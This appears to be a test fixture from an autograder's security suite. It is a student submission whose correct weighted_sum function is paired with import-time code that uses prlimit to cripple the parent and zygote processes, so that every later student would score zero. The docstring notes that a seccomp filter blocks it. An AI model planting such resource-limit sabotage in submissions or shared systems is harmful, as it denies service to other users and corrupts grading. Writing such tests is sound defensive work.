"""Attack: lower the zygote's limits (and the grading process's) with
prlimit: one open file, no more. Every later child is forked with them and
dies while importing its file, so every exercise (and student) graded after
this one would score 0. The answers themselves are right.

Refused by the seccomp filter (grader/child/confine.py: a child may change only its
own limits), with or without the sandbox: full marks here and everywhere else.
"""
import os
import resource

import torch


def _parent_of(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


for _pid in (os.getppid(), _parent_of(os.getppid())):
    if _pid > 0:
        for _which in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS):
            try:
                resource.prlimit(_pid, _which, (5, 5))
            except (OSError, ValueError):
                pass


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    return (torch.softmax(scores, dim=-1).unsqueeze(-2) @ values).squeeze(-2)
